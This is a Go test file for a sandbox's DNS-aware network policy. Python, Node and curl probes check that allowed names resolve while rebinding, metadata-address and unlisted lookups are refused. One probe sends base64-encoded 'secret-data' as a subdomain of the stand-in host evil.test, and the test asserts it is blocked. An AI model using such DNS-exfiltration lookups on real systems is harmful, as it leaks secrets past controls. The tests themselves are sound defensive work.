package warden

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/varek/varek/warden/names"
	"github.com/varek/varek/warden/names/namestest"
)

func init() { testPrograms["lookup"] = lookupProgram }

// lookupProgram resolves its arguments with Go's own resolver.
func lookupProgram(args []string) int {
	for _, name := range args {
		list, err := (&net.Resolver{PreferGo: true}).LookupNetIP(context.Background(), "ip4", name)
		fmt.Println(name, list, err != nil)
	}
	return 0
}

const namingHosts = `
version: 1
mode: %s
files: {read: {allow: ["/**"]}, write: {allow: ["/**"]}, exec: {allow: ["/**"]}}
network: {connect: {allow: ["api.example.test:443", "*.wild.test:*", "rebind.test:*", "bücher.test:443", "127.0.0.1:8080"]}}
`

// namedSession is a run whose policy names hosts, before a real name server.
func namedSession(t *testing.T, mode string, argv ...string) (*session, *namestest.Server) {
	t.Helper()
	f, err := os.Open(resolvConf)
	if err != nil {
		needs(t, "resolv.conf", "this machine has no name servers to stand in for")
	}
	f.Close()
	up := namestest.New(t)
	up.Set("api.example.test", "203.0.113.7", "2001:db8::7")
	up.Set("a.b.wild.test", "=cdn.other.test")
	up.Set("cdn.other.test", "203.0.113.8")
	up.Set("xn--bcher-kva.test", "203.0.113.9")
	up.Set("rebind.test", "127.0.0.1", "169.254.169.254", "192.168.7.7")
	up.Set("free.test", "203.0.113.10")
	up.OverTCP("a.b.wild.test")
	s := newSession(t, fmt.Sprintf(namingHosts, mode), argv...)
	s.cfg.NameServers = []netip.AddrPort{up.Addr()}
	return s, up
}

const namesScript = `
import errno, socket
def look(name, family=socket.AF_INET):
    try: print(name, sorted({a[4][0] for a in socket.getaddrinfo(name, 443, family, socket.SOCK_STREAM)}))
    except socket.gaierror as e: print(name, "gai", e.errno)
def reach(addr, port):
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
    try: s.connect((addr, port)); print(addr, port, "reached")
    except OSError as e: print(addr, port, "refused" if e.errno == errno.EACCES else "reached")
reach("203.0.113.7", 443)
look("api.example.test"); look("API.Example.TEST."); look("api.example.test", socket.AF_INET6)
reach("203.0.113.7", 443); reach("203.0.113.7", 80); reach("::ffff:203.0.113.7", 443); reach("2001:db8::7", 443)
look("a.b.wild.test"); reach("203.0.113.8", 22)
look("b\u00fccher.test"); reach("203.0.113.9", 443)
look("rebind.test"); reach("127.0.0.1", 443); reach("127.0.0.1", 8080); reach("169.254.169.254", 80); reach("192.168.7.7", 80); reach("0.0.0.0", 443)
look("free.test"); reach("203.0.113.10", 443)
look("c2VjcmV0LWRhdGE.evil.test"); look("api.example.test.evil.test"); look("wild.test")
`

// TestNamesOpenTheWay: python's getaddrinfo inside a run, names in the policy.
func TestNamesOpenTheWay(t *testing.T) {
	s, up := namedSession(t, "enforce", "python3", "-c", namesScript)
	s.run(t)
	want := `203.0.113.7 443 refused
api.example.test ['203.0.113.7']
API.Example.TEST. ['203.0.113.7']
api.example.test ['2001:db8::7']
203.0.113.7 443 reached
203.0.113.7 80 refused
::ffff:203.0.113.7 443 reached
2001:db8::7 443 reached
a.b.wild.test ['203.0.113.8']
203.0.113.8 22 reached
bücher.test ['203.0.113.9']
203.0.113.9 443 reached
rebind.test ['127.0.0.1', '169.254.169.254', '192.168.7.7']
127.0.0.1 443 refused
127.0.0.1 8080 reached
169.254.169.254 80 refused
192.168.7.7 80 refused
0.0.0.0 443 refused
free.test gai -2
203.0.113.10 443 refused
c2VjcmV0LWRhdGE.evil.test gai -2
api.example.test.evil.test gai -2
wild.test gai -2
`
	if s.out.String() != want {
		t.Errorf("got\n%s\nwant\n%s\n%s", s.out.String(), want, s.errOut.String())
	}
	for _, asked := range up.Asked() {
		if strings.Contains(asked, "evil") || strings.Contains(asked, "free") {
			t.Errorf("%q left the machine", asked)
		}
	}
	for _, k := range []struct {
		event, host, addr, rule, decision string
		port                              int
	}{
		{"connect", "api.example.test", "203.0.113.7", "network.connect.allow[0]", Allow, 443},
		{"connect", "a.b.wild.test", "203.0.113.8", "network.connect.allow[1]", Allow, 22},
		{"connect", "rebind.test", "169.254.169.254", "rebound", Deny, 80},
		{"send", "c2vjcmv0lwrhdge.evil.test", "", "names", Deny, 0},
		{"send", "api.example.test", "", "network.connect.allow[0]", Allow, 0},
	} {
		got := s.find(func(r Record) bool {
			return r.Event == k.event && r.Host == k.host && r.Addr == k.addr && r.Port == k.port && r.Of == 0
		})
		if len(got) == 0 || got[0].Rule != k.rule || got[0].Decision != k.decision || got[0].Attribution != AttributionHarness {
			t.Errorf("record of %s %s%s:%d: %+v", k.event, k.host, k.addr, k.port, got)
		}
	}
}

// TestNamesAreMeasured: in observe mode every name resolves and every address is
// reached; the records carry the names.
func TestNamesAreMeasured(t *testing.T) {
	s, _ := namedSession(t, "observe", "python3", "-c", namesScript)
	s.run(t)
	if out := s.out.String(); strings.Contains(out, "refused") || !strings.Contains(out, "free.test ['203.0.113.10']") {
		t.Errorf("got\n%s%s", out, s.errOut.String())
	}
	got := s.find(func(r Record) bool { return r.Event == "connect" && r.Addr == "203.0.113.10" })
	if len(got) == 0 || got[0].Host != "free.test" {
		t.Errorf("the record of a reached name: %+v", got)
	}
}

// TestResolversOfPrograms: the ways in which programs resolve all go through.
func TestResolversOfPrograms(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []struct {
		name, need, want string
		argv             []string
	}{
		{"go", "", "api.example.test [203.0.113.7] false\na.b.wild.test [203.0.113.8] false\nfree.test [] true\n",
			[]string{self, "api.example.test", "a.b.wild.test", "free.test"}},
		{"getent", "getent", "203.0.113.7", []string{"getent", "ahostsv4", "api.example.test"}},
		{"curl", "curl", "6\n", []string{"sh", "-c", "curl -s -m 2 http://free.test; echo $?"}},
		{"node lookup", "node", "203.0.113.7\n", []string{"node", "-e", `require("dns").lookup("api.example.test",{family:4},(e,a)=>console.log(e?e.code:a))`}},
		{"node resolve", "node", "203.0.113.7\n", []string{"node", "-e", `require("dns").resolve4("api.example.test",(e,a)=>console.log(e?e.code:a[0]))`}},
		{"node lookup refused", "node", "ENOTFOUND\n", []string{"node", "-e", `require("dns").lookup("free.test",(e,a)=>console.log(e?e.code:a))`}},
	} {
		if p.need != "" {
			if _, err := exec.LookPath(p.need); err != nil {
				t.Logf("%s: skipped, not installed", p.name)
				continue
			}
		}
		s, _ := namedSession(t, "enforce", p.argv...)
		if p.name == "go" {
			s.cfg.Env = append(s.cfg.Env, "WARDEN_TEST_PROGRAM=lookup")
		}
		s.run(t)
		if !strings.HasPrefix(s.out.String(), p.want) {
			t.Errorf("%s: %q, want %q; %s", p.name, s.out.String(), p.want, s.errOut.String())
		}
	}
}

// TestResolverServesTheRunAlone: another process of the machine gets no answer
// out of it, and the agent cannot use it but through the warden.
func TestResolverServesTheRunAlone(t *testing.T) {
	c := converseWith(t, fmt.Sprintf(namingHosts, "observe"), func(cfg *Config) {
		up := namestest.New(t)
		up.Set("api.example.test", "203.0.113.7")
		cfg.NameServers = []netip.AddrPort{up.Addr()}
	})
	at := c.super.resolver.server.Addr().String()
	outside := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, network, at)
	}}
	if got, err := outside.LookupNetIP(t.Context(), "ip4", "api.example.test."); err == nil {
		t.Errorf("from outside: %v", got)
	}
	if got := c.super.names.Of(netip.MustParseAddr("203.0.113.7")); got != nil {
		t.Errorf("the view knows %v", got)
	}
	if !slices.Contains(c.super.resolver.servers, readFirst(t)) {
		t.Error("the machine's name server is not stood in for")
	}
}

func readFirst(t *testing.T) netip.Addr {
	t.Helper()
	f, err := os.Open(resolvConf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	return names.ReadServers(f)[0].Addr()
}
